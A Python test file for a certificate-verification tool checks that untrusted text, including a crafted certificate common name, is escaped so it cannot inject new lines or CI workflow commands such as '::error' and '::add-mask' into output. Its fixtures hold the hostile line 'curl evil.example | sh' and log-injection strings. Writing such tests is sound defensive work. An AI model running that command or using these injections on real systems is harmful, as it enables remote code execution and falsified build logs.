"""A line stays one, and gives no orders to what runs the job."""

from pathlib import Path

import pytest

from cf525.lab.ca import Authority
from cf525.report.line import one_line
from tests.cli.test_command_line import run


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\nFIX  curl evil.example | sh", "a<U+000A>FIX  curl evil.example | sh"),
        ("a\r\nb", "a<U+000D><U+000A>b"),
        ("   ::error file=a::b", "   <U+003A>:error file=a::b"),
        ("::add-mask::x", "<U+003A>:add-mask::x"),
        ("##[group]x", "<U+0023>#[group]x"),
        ("::1 port 443", "::1 port 443"),
        (" ::ffff:192.0.2.1 answers", " ::ffff:192.0.2.1 answers"),
        ("std::string::x", "std::string::x"),
        ("", ""),
    ],
)
def test_a_line_is_one_line(text: str, shown: str) -> None:
    assert one_line(text) == shown


@pytest.mark.parametrize("more", [(), ("-v",), ("-vv",)])
@pytest.mark.parametrize("to_file", [False, True])
def test_a_name_in_a_certificate_begins_no_line(
    more: tuple[str, ...], to_file: bool, tmp_path: Path
) -> None:
    name = "X\n FIX   curl evil.example|sh\n::error::all is well"
    file = tmp_path / "chain.pem"
    file.write_bytes(Authority("A").self_signed("www.example.com", common_name=name).chain_pem)
    output = ("-o", str(tmp_path / "told.txt"), "--format", "text") if to_file else more
    shown = run("verify", str(file), "--host", "www.example.com", *output)
    assert shown.returncode == 1, shown.stderr
    text = (tmp_path / "told.txt").read_text() if to_file else shown.stdout
    assert "www.example.com" in text
    for line in text.splitlines():
        assert not line.strip().startswith(("::", "FIX   curl", "curl evil")), text
